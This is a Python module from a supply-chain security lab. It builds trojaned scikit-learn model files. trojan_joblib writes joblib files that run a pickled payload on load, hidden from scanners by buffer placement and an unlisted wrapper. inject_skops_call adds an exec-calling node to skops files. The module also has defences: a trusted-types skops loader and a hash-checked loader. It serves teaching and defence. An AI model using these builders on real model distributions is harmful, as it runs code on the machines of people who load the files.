"""NLP: the triage pipeline in a joblib file and in a skops file (lab 11, section 2).

Holds the building blocks of scikit-learn's two formats, used by the NLP and fraud sections:

* :func:`trojan_joblib`: a joblib file that loads as the model and runs a payload on the way,
  with the payload pickled before or after the model's numpy buffers, compressed or not;
* :func:`skops_load`: ``skops.io.load`` with an explicit list of trusted types, its refusal
  caught and reported (which types it would not load);
* :func:`inject_skops_call`: a copy of a skops file with one more node, which makes skops call
  a payload's callable while it loads the model, if (and only if) the callable is trusted;
* :func:`load_if_hash_matches`: a loader that hashes the file and refuses it before reading a
  byte of its content when the hash is not the published one.

Introduced in lab 11 (Supply chain).
"""

from __future__ import annotations

import ast
import json
import operator
import shutil
import time
import zipfile
from pathlib import Path

from ..validate import ArgumentTypeError, check_choice, check_int, check_path, check_str
from .common import sha256_file
from .results import SkopsLoad

__all__ = [
    "JOBLIB_COMPRESSORS",
    "JOBLIB_PLACEMENTS",
    "inject_skops_call",
    "load_if_hash_matches",
    "skops_load",
    "trojan_joblib",
]

JOBLIB_PLACEMENTS = ("before", "after")
"""Where :func:`trojan_joblib` puts the payload in the pickle stream: ``"before"`` the model
(ahead of every numpy buffer joblib writes) or ``"after"`` it (behind the buffers)."""

JOBLIB_COMPRESSORS = ("zlib", "gzip", "bz2", "lzma", "xz")
"""The compressors ``joblib.dump(..., compress=(name, level))`` offers without extra packages."""






def _new_file(value, name: str) -> Path:
    path = check_path(value, name)
    if not path.parent.is_dir():
        raise ValueError(f"{name}'s folder does not exist: {path.parent} (pass a path inside "
                         "the lab's folder)")
    return path


class _Trojan:
    """Pickles as ``operator.getitem(<tuple holding the payload and the model>, i)``: the
    unpickler builds the tuple (running the payload where it sits in it) and hands back the
    model, so the victim gets a working model and sees nothing."""

    def __init__(self, model, payload, placement: str) -> None:
        self.model, self.payload, self.placement = model, payload, placement

    def __reduce__(self):
        if self.placement == "before":
            return operator.getitem, ((self.payload, self.model), 1)
        return operator.getitem, ((self.model, self.payload), 0)


def trojan_joblib(model, payload, path, *, placement: str = "before", compress=0) -> Path:
    """Write ``model`` with ``joblib.dump`` to ``path`` so that ``joblib.load`` returns the
    model *and* unpickles ``payload`` on the way (a ``common.marker_payload``: it runs then).

    ``placement="before"`` pickles the payload ahead of the model, so ahead of every numpy
    buffer; ``"after"`` pickles it behind the model, after the raw array bytes joblib writes
    between pickle opcodes (a scanner that stops at the first buffer never reaches it).
    ``compress`` is joblib's argument (0: none; 1-9: zlib at that level; ``(name, level)``
    with a name of :data:`JOBLIB_COMPRESSORS`). Returns ``path``.

    Written by hand: the attack is the point (no library writes trojaned files); the wrapper
    is ``operator.getitem`` on a tuple, a global no deny-list names, so a scanner's verdict is
    about the payload only.

    Introduced in lab 11 (Supply chain).
    """
    import joblib

    path = _new_file(path, "path")
    placement = check_choice(placement, JOBLIB_PLACEMENTS, "placement")
    if payload is None or not hasattr(payload, "__reduce__"):
        raise ArgumentTypeError("payload must be an object to pickle (common.marker_payload)")
    if isinstance(compress, tuple):
        if len(compress) != 2:
            raise ValueError("compress must be an int 0-9 or a (compressor, level) pair")
        check_choice(compress[0], JOBLIB_COMPRESSORS, "compressor")
        check_int(compress[1], "compression level", 0, 9)
    else:
        check_int(compress, "compress", 0, 9)
    joblib.dump(_Trojan(model, payload, placement), path, compress=compress)
    return path


def _listed_types(message: str) -> tuple[str, ...]:
    # skops 0.16's UntrustedTypesFoundException keeps the refused types only in its message
    # ("Untrusted types found in the file: ['a', 'b']."), not as an attribute.
    start, end = message.find("["), message.find("]")
    try:
        return tuple(ast.literal_eval(message[start:end + 1]))
    except (ValueError, SyntaxError):
        return ()


def skops_load(path, *, trusted=()) -> SkopsLoad:
    """``skops.io.load(path, trusted=list(trusted))``: skops refuses the file, before building
    any object, when it holds a type or function that is neither in its default allow-list
    (scikit-learn estimators, numpy and scipy basics) nor in ``trusted``. The refusal is caught
    and reported with the types skops named; any other error propagates.

    Introduced in lab 11 (Supply chain).
    """
    import skops.io as sio
    from skops.io.exceptions import UntrustedTypesFoundException

    path = check_path(path, "path", kind="file")
    if isinstance(trusted, str):
        raise ArgumentTypeError("trusted must be a list of type names, not one string "
                                "(wrap it in a list)")
    trusted = [check_str(t, "each trusted type") for t in trusted]
    start = time.perf_counter()
    try:
        model = sio.load(path, trusted=trusted)
    except UntrustedTypesFoundException as err:
        return SkopsLoad(file=path.name, loaded=False, model=None,
                         refused_types=_listed_types(str(err)), trusted=tuple(trusted),
                         error=str(err).splitlines()[0],
                         seconds=time.perf_counter() - start)
    return SkopsLoad(file=path.name, loaded=True, model=model, refused_types=(),
                     trusted=tuple(trusted), error=None, seconds=time.perf_counter() - start)


def _json_node(value) -> dict:
    return {"__class__": type(value).__name__, "__module__": "builtins",
            "__loader__": "JsonNode", "content": json.dumps(value), "is_json": True}


def inject_skops_call(src, dst, payload, *, attribute: str = "_provenance") -> Path:
    """Copy the skops file ``src`` to ``dst`` with one more attribute on the saved model,
    ``attribute``, whose node tells skops to call the payload's callable with its arguments
    while loading (skops's ``ConstructorFromReduceNode``, meant for ``type(*args)``): the
    function an attacker injects. skops names the callable in its untrusted types and refuses
    the file until it is trusted; a user who trusts it runs the payload at load time.

    ``payload`` is a ``common.marker_payload`` whose callable is a module-level function with
    JSON arguments (``via="exec"``: ``builtins.exec`` of one line that writes the marker).
    Written by hand: no library writes malicious skops files.

    Introduced in lab 11 (Supply chain).
    """
    src, dst = check_path(src, "src", kind="file"), _new_file(dst, "dst")
    attribute = check_str(attribute, "attribute")
    reduced = payload.__reduce__() if hasattr(payload, "__reduce__") else None
    if not isinstance(reduced, tuple) or len(reduced) < 2 or not callable(reduced[0]):
        raise ArgumentTypeError("payload must reduce to (callable, args): common.marker_payload")
    func, args = reduced[0], reduced[1]
    name = getattr(func, "__qualname__", "")
    if "." in name or not name:
        raise ValueError(f"the payload's callable must be a module-level function (via='exec'), "
                         f"got {func!r}")
    try:
        content = [_json_node(a) for a in args if json.loads(json.dumps(a)) == a]
    except TypeError as err:
        raise ValueError("the payload's arguments must be JSON values (via='exec')") from err
    if len(content) != len(args):
        raise ValueError("the payload's arguments must be JSON values (via='exec')")
    node = {"__class__": name, "__module__": func.__module__,
            "__loader__": "ConstructorFromReduceNode",
            "content": {"__class__": "tuple", "__module__": "builtins",
                        "__loader__": "TupleNode", "content": content}}
    with zipfile.ZipFile(src) as zin:
        schema = json.loads(zin.read("schema.json"))
        attrs = schema.get("content")
        if not isinstance(attrs, dict) or attrs.get("__loader__") != "DictNode":
            raise ValueError(f"{src.name}: the saved object has no attribute dictionary to add "
                             "a node to (save an estimator)")
        if attribute in attrs["content"]:
            raise ValueError(f"the saved object already has an attribute {attribute!r}")
        attrs["content"][attribute] = node  # DictNode: the values, and the keys' types in order
        attrs["key_types"]["content"].append(
            {"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode"})
        tmp = dst.with_name(dst.name + ".partial")
        with zipfile.ZipFile(tmp, "w", compression=zipfile.ZIP_STORED) as zout:
            for info in zin.infolist():
                data = json.dumps(schema) if info.filename == "schema.json" else \
                    zin.read(info.filename)
                zout.writestr(info, data)
    shutil.move(tmp, dst)
    return dst


def load_if_hash_matches(path, sha256: str, loader):
    """Hash ``path`` (SHA-256) and call ``loader(path)`` only when the hash is ``sha256``, the
    one published with the model (a manifest); otherwise raise ``ValueError`` before any byte
    of the file is deserialised, so a swapped file never reaches an unpickler.

    Introduced in lab 11 (Supply chain).
    """
    path = check_path(path, "path", kind="file")
    sha256 = check_str(sha256, "sha256").lower()
    if len(sha256) != 64 or any(c not in "0123456789abcdef" for c in sha256):
        raise ValueError("sha256 must be 64 hex digits")
    if not callable(loader):
        raise ArgumentTypeError("loader must be a function of the path (joblib.load)")
    actual = sha256_file(path)
    if actual != sha256:
        raise ValueError(f"{path.name}: SHA-256 {actual[:16]}... is not the published "
                         f"{sha256[:16]}...; refusing to load it")
    return loader(path)
